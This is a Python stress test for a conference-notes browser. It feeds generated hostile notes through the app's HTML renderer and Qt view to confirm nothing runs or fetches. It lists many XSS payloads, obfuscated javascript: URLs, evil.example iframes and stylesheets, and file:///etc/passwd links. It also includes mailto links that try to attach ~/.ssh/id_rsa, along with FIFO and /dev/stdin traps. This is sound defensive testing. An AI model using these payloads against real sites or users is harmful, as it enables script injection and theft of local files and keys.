"""Stress 6: hostile notes render to HTML that neither runs nor fetches anything.

Generated notes mix payloads (<script>, event handlers, javascript:/vbscript:/data:/file:
links in every spelling, remote and out-of-folder images, iframes, objects, stylesheets,
meta refresh, base href, SVG) into markdown contexts (lists, tables, quotes, headings,
reference links, autolinks) and into the talk's title, speakers and links. Each is checked:

* statically: render_talk/render_conference output parsed with html.parser holds only the
  sanitiser's tags, no event handler or style attribute, links only to http(s), mailto,
  talk:, confbrowser: or #anchors, and images only as file: URIs of images that exist
  inside the notes folder;
* in the TalkView (offscreen Qt): every resource Qt asks for is recorded; anything but an
  image inside the notes folder must come back empty, and a direct request for a file as
  a stylesheet or HTML resource must not return its bytes; every link in the page, plus
  hostile URLs, is clicked, with QDesktopServices.openUrl replaced by a recorder: only
  http, https and mailto may reach it, and a mailto: only with addresses, subject and body;
* special files: notes images that are an SVG pointing at a photo outside the folder (by
  absolute and relative path), a FIFO and a link to /dev/stdin named like images: the SVG
  shows without the photo, the others as blanks, and the view never blocks on them;
* tooltips: the tree's talk tooltips, whose titles and speakers hold `<img src=…>` (one
  pointing at the FIFO) and `<script>`, read back as written, and Qt is asked for no
  resource while showing them.
"""

from __future__ import annotations

import random
import tempfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

from confbrowser.core.model import Conference, Link, SourceRef, Speaker, Talk, talk_id
from confbrowser.core.render import render_conference, render_talk
from tests.stress_common import Outcome, timed

FULL = 2_000
SEED = 6006
ALLOWED_TAGS = {
    "html", "body", "a", "abbr", "b", "blockquote", "br", "caption", "code", "dd", "del", "div",
    "dl", "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li",
    "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span", "strong", "sub", "sup",
    "table", "tbody", "td", "tfoot", "th", "thead", "tr", "tt", "u", "ul",
}
LINK_SCHEMES = {"http", "https", "mailto", "talk", "confbrowser"}
EXTERNAL = {"http", "https", "mailto"}

SCRIPTS = [
    "<script>alert(1)</script>", "<ScRiPt src=http://evil.example/x.js></sCrIpT>",
    "<script", "<scr<script>ipt>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1 /></svg>", "<body onload=alert(1)>",
    "<div onclick=\"alert(1)\" style=\"background:url(http://evil.example/bg.png)\">x</div>",
    "<a href=\"#\" onmouseover=alert(1)>hover</a>", "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<template><script>1</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--<script>-->x",
    "<style>@import url(http://evil.example/x.css); p{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>", "<meta http-equiv=refresh "
    "content=\"0;url=http://evil.example\">", "<base href=\"http://evil.example/\">",
    "<form action=http://evil.example><input name=x><button>go</button></form>",
]
FRAMES = [
    "<iframe src=\"http://evil.example/\"></iframe>", "<iframe srcdoc=\"<script>1</script>\">",
    "<object data=\"http://evil.example/x.swf\"></object>", "<embed src=\"file:///etc/passwd\">",
    "<video src=http://evil.example/v.mp4 poster=http://evil.example/p.png></video>",
    "<audio src=http://evil.example/a.mp3>", "<source src=http://evil.example/s.mp4>",
    "<frameset><frame src=http://evil.example></frameset>", "<portal src=http://evil.example>",
]
BAD_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java&#09;script:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
    "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd", "FILE:///etc/shadow", "file://evil.example/share/x", "/etc/passwd",
    "../../../../etc/passwd", "smb://evil.example/share", "ftp://evil.example/x",
    "\\\\evil.example\\share", "jar:file:///x!/y", "view-source:http://evil.example",
    "about:blank", "chrome://settings", "qrc:/x", "blob:http://evil.example/x",
]
REMOTE_IMAGES = [
    "http://evil.example/track.png", "https://evil.example/a.gif", "//evil.example/x.png",
    "file:///etc/passwd", "/etc/hostname", "../../../../../etc/passwd.png",
    "data:image/png;base64,iVBORw0KGgo=", "outside.png", "ftp://evil.example/x.png",
]
GOOD_URLS = ["https://example.org/talk", "http://example.org/", "mailto:jane@example.org",
             "#section", "mailto:jane@example.org?attach=/etc/passwd&subject=Hi&bcc=x@evil.example",
             "mailto:?Attach=~/.ssh/id_rsa", "mailto:jane@example.org%3Fattach=/etc/shadow"]
# notes "images" that try to reach out or block: see _special_files
SPECIAL_IMAGES = ["diagram.svg", "fifo.png", "stdin.png"]
MAILTO_FIELDS = {"subject", "body"}
CONTEXTS = ["{}", "- {}", "1. {}", "> {}", "# {}", "| {} | x |\n|---|---|\n| a | b |",
            "**{}**", "*{}*", "Text {} text", "    {}", "```\n{}\n```", "- - {}"]


def _payload(rng: random.Random, image_ok: str) -> str:
    roll = rng.random()
    if roll < 0.25:
        return rng.choice(SCRIPTS)
    if roll < 0.4:
        return rng.choice(FRAMES)
    url = rng.choice(BAD_URLS + GOOD_URLS)
    image = rng.choice(REMOTE_IMAGES + [image_ok])
    shapes = [f"[click]({url})", f"<a href=\"{url}\">click</a>", f"<{url}>",
              f"[ref][r{rng.randint(0, 9)}]\n\n[r{rng.randint(0, 9)}]: {url}",
              f"![pic]({image})", f"<img src=\"{image}\" alt=\"pic\">",
              f"[![pic]({image})]({url})", f"<a href='{url}'><img src='{image}'></a>", url]
    return rng.choice(shapes)


def make_talk(rng: random.Random, notes_dir: Path, number: int) -> Talk:
    """Return a talk whose every field carries hostile text."""
    parts = [rng.choice(CONTEXTS).format(_payload(rng, rng.choice(["slide.png",
                                                                    *SPECIAL_IMAGES])))
             for _ in range(rng.randint(1, 8))]
    title = f"Talk {number} " + rng.choice(["", *SCRIPTS[:4], "<b>bold</b>", "&lt;i&gt;"])
    link = Link(rng.choice(["slides", "<script>x</script>", ""]), rng.choice(BAD_URLS + GOOD_URLS))
    return Talk(
        id=talk_id("Evil Conf", f"talk {number}"), title=title, conference="Evil Conf",
        speakers=(Speaker(rng.choice(["Jane <img src=x onerror=alert(1)>", "Bob",
                                      f"<img src='{notes_dir / 'fifo.png'}'> Eve"]),
                          rng.choice([None, "<script>1</script>"])),),
        links=(link,), body="\n\n".join(parts),
        source=SourceRef(str(notes_dir / "evil.md"), 1),
    )


class _Page(HTMLParser):
    """Collect what an HTML page would run or fetch."""

    def __init__(self, notes_dir: Path) -> None:
        super().__init__(convert_charrefs=True)
        self.notes_dir = notes_dir.resolve()
        self.problems: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in {"style", "srcset", "srcdoc", "background",
                                                  "action", "formaction", "poster", "data"}:
                self.problems.append(f"attribute {name}={value[:60]!r} on <{tag}>")
            elif name == "href":
                self.links.append(value)
                scheme = urlsplit(value.strip()).scheme.lower()
                if not value.startswith("#") and scheme not in LINK_SCHEMES:
                    self.problems.append(f"link to {value[:80]!r}")
                elif scheme == "mailto" and _mail_fields(value) - MAILTO_FIELDS:
                    self.problems.append(f"mail link asks for {value[:80]!r}")
            elif name == "src" and not self._local_image(value):
                self.problems.append(f"<{tag}> loads {value[:80]!r}")

    def _local_image(self, src: str) -> bool:
        parts = urlsplit(src)
        if parts.scheme != "file" or parts.netloc not in ("", "localhost"):
            return False
        path = Path(unquote(parts.path)).resolve()
        return path.is_relative_to(self.notes_dir) and path.is_file()


def _mail_fields(url: str) -> set[str]:
    """Return the fields a mailto: URL hands the mail client, an encoded "?" included."""
    parts = urlsplit(url.strip())
    query = parts.query + "&" + unquote(parts.path).partition("?")[2]
    return {field.partition("=")[0].lower() for field in query.split("&") if field}


def check_html(page: str, notes_dir: Path) -> tuple[list[str], list[str]]:
    """Return (problems, links) of a rendered page."""
    parser = _Page(notes_dir)
    parser.feed(page)
    parser.close()
    return parser.problems, parser.links


class _ViewProbe:
    """A TalkView whose resource loads and external opens are recorded."""

    def __init__(self, notes_dir: Path) -> None:
        from PySide6.QtGui import QDesktopServices

        from confbrowser.ui import talkview

        self.notes_dir = notes_dir.resolve()
        self.opened: list[str] = []
        self.loads: list[tuple[int, str, Any]] = []
        self._talkview = talkview
        self._desktop = QDesktopServices
        self._real_open = QDesktopServices.openUrl
        self._real_load = talkview._Browser.loadResource
        probe = self

        def record_open(url: Any) -> bool:
            probe.opened.append(url.toString())
            return True

        def record_load(browser: Any, kind: int, name: Any) -> Any:
            result = probe._real_load(browser, kind, name)
            probe.loads.append((kind, name.toString() if hasattr(name, "toString") else str(name),
                                result))
            return result

        QDesktopServices.openUrl = staticmethod(record_open)  # type: ignore[method-assign]
        talkview._Browser.loadResource = record_load  # type: ignore[method-assign]
        self.view = talkview.TalkView()
        self.view.resize(900, 700)
        self.view.show()  # images are asked for when the page is laid out and painted

    def close(self) -> None:
        self._desktop.openUrl = self._real_open  # type: ignore[method-assign]
        self._talkview._Browser.loadResource = self._real_load  # type: ignore[method-assign]
        self.view.close()
        self.view.deleteLater()

    def fetched_something(self) -> list[str]:
        """Return the resource loads that returned more than an empty 1x1 image."""
        problems = []
        for kind, url, result in self.loads:
            if result is None or _blank(result):
                continue
            path = Path(unquote(urlsplit(url).path)).resolve() if url.startswith("file:") \
                else None
            if path is None or not path.is_relative_to(self.notes_dir):
                problems.append(f"resource kind {kind} {url[:80]!r} loaded")
        self.loads.clear()
        return problems


def _blank(result: Any) -> bool:
    from PySide6.QtCore import QByteArray
    from PySide6.QtGui import QImage

    if isinstance(result, QImage):
        return result.width() <= 1 and result.height() <= 1
    if isinstance(result, (bytes, QByteArray, str)):
        return len(result) == 0
    return False


def _direct_loads(probe: _ViewProbe, secret: Path) -> list[str]:
    """Ask the view's document for a file outside the notes as each kind of resource."""
    from PySide6.QtCore import QUrl
    from PySide6.QtGui import QTextDocument

    problems = []
    document = probe.view.browser.document()
    kinds = [QTextDocument.ResourceType.StyleSheetResource, QTextDocument.ResourceType.HtmlResource,
             QTextDocument.ResourceType.ImageResource, QTextDocument.ResourceType.MarkdownResource]
    for kind in kinds:
        for url in (QUrl.fromLocalFile(str(secret)), QUrl("http://evil.example/x.css")):
            result = document.loadResource(kind.value, url)
            data = bytes(result) if hasattr(result, "__len__") and not isinstance(result, str) \
                else (result.encode() if isinstance(result, str) else b"")
            if b"SECRET" in data:
                problems.append(f"{kind.name} {url.toString()} returned the file's bytes")
    probe.loads.clear()
    return problems


def _click_everything(probe: _ViewProbe, links: list[str]) -> list[str]:
    from PySide6.QtCore import QUrl

    probe.opened.clear()
    for href in links + BAD_URLS + GOOD_URLS:
        probe.view.browser.anchorClicked.emit(QUrl(href))
    return [url for url in probe.opened if urlsplit(url).scheme.lower() not in EXTERNAL
            or (url.lower().startswith("mailto:") and _mail_fields(url) - MAILTO_FIELDS)]


def _special_files(notes_dir: Path, outside: Path) -> None:
    """Put an SVG that points outside, a FIFO and a link to /dev/stdin among the notes."""
    import os

    (notes_dir / "diagram.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'width="16" height="16"><rect width="16" height="8" fill="#3366cc"/>'
        f'<image xlink:href="{outside}" y="8" width="16" height="8"/>'
        f'<image href="../{outside.name}" y="8" width="16" height="8"/>'
        f'<rect y="8" width="16" height="8" fill="url({outside.with_suffix(".svg")}#p)"/></svg>')
    os.mkfifo(notes_dir / "fifo.png")  # opened for reading, it waits for a writer for ever
    os.symlink("/dev/stdin", notes_dir / "stdin.png")


def _svg_problems(probe: _ViewProbe, counts: dict[str, int]) -> list[str]:
    """Return the SVG loads that drew the outside photo (its red)."""
    from PySide6.QtGui import QColor, QImage

    problems = []
    for _, url, result in probe.loads:
        if url.endswith("diagram.svg") and isinstance(result, QImage) and result.width() > 1:
            counts["SVGs drawn"] += 1
            if any(QColor(result.pixel(x, y)).red() > 200 and QColor(result.pixel(x, y)).blue()
                   < 60 for x in range(0, result.width(), 3)
                   for y in range(0, result.height(), 3)):
                problems.append(f"the SVG drew an image from outside the notes ({url[-40:]})")
    return problems


def _tooltip_problems(conference: Conference) -> list[str]:
    """Show every speaker tooltip in a document that records what it is asked to load."""
    from PySide6.QtCore import Qt
    from PySide6.QtGui import QTextDocument

    from confbrowser.core.model import Library
    from confbrowser.ui.treemodel import TalkTreeModel

    class Recording(QTextDocument):
        loads: list[str] = []

        def loadResource(self, kind: int, name: Any) -> Any:  # noqa: N802 (Qt API)
            self.loads.append(name.toString())
            return None

    model = TalkTreeModel(Library(conferences=(conference,)))
    problems = []
    for talk in conference.talks:
        tip = model.index_for_talk(talk.id).data(Qt.ItemDataRole.ToolTipRole) or ""
        document = Recording()
        document.setHtml(tip)
        names = ", ".join(s.name for s in talk.speakers)
        shown = document.toPlainText()  # the title and the speakers, as written
        if names not in shown or talk.title.strip() not in shown or document.loads:
            problems.append(f"tooltip {names[:40]!r} shown as {document.toPlainText()[:40]!r}, "
                            f"loading {document.loads[:2]}")
    return problems


def run(scale: int = FULL) -> dict[str, Any]:
    """Render SCALE hostile talks; check the HTML, and show every one in a TalkView."""
    from PySide6.QtWidgets import QApplication

    app = QApplication.instance() or QApplication([])
    outcome = Outcome("rendering safety: hostile notes")
    rng = random.Random(SEED)
    counts = {"links clicked": 0, "opened externally": 0, "resource loads": 0, "SVGs drawn": 0}
    with timed(outcome), tempfile.TemporaryDirectory(prefix="confbrowser-stress-") as tmp:
        notes_dir = Path(tmp, "notes")
        notes_dir.mkdir()
        _write_png(notes_dir / "slide.png")
        _write_png(Path(tmp) / "outside.png", 0xFFFF0000)
        _special_files(notes_dir, Path(tmp) / "outside.png")
        secret = Path(tmp) / "secret.css"
        secret.write_text("SECRET p { color: red }")
        probe = _ViewProbe(notes_dir)
        try:
            for problem in _direct_loads(probe, secret):
                outcome.fail(problem)
            talks = [make_talk(rng, notes_dir, n) for n in range(scale)]
            conference = Conference("Evil Conf", 2020, overview=talks[0].body, talks=tuple(talks))
            pages = [(t, render_talk(t, conference)) for t in talks]
            pages.append((talks[0], render_conference(conference)))
            for talk, page in pages:
                outcome.runs += 1
                problems, links = check_html(page, notes_dir)
                for problem in problems:
                    outcome.fail(f"{talk.title[:30]!r}: {problem}")
                probe.view.show_talk(talk, conference=conference)
                app.processEvents()
                counts["resource loads"] += len(probe.loads)
                for problem in _svg_problems(probe, counts):
                    outcome.fail(f"{talk.title[:30]!r}: {problem}")
                for problem in probe.fetched_something():
                    outcome.fail(f"{talk.title[:30]!r}: {problem}")
                for url in _click_everything(probe, links):
                    outcome.fail(f"{talk.title[:30]!r}: opened {url[:80]!r} externally")
                counts["links clicked"] += len(links) + len(BAD_URLS)
                counts["opened externally"] += len(probe.opened)
            for problem in _tooltip_problems(conference):
                outcome.fail(problem)
            counts["tooltips shown"] = len(talks)
            counts["special images asked for"] = sum(
                page.count(name) for _, page in pages for name in SPECIAL_IMAGES)
        except Exception as exc:  # noqa: BLE001 - the very thing this scenario counts
            outcome.crash(f"{type(exc).__name__}: {exc}")
        finally:
            probe.close()
            app.processEvents()
    outcome.figures = counts
    return outcome.as_dict()


def _write_png(path: Path, colour: int = 0xFF3366CC) -> None:
    from PySide6.QtGui import QImage

    image = QImage(8, 8, QImage.Format.Format_ARGB32)
    image.fill(colour)
    image.save(str(path), "PNG")
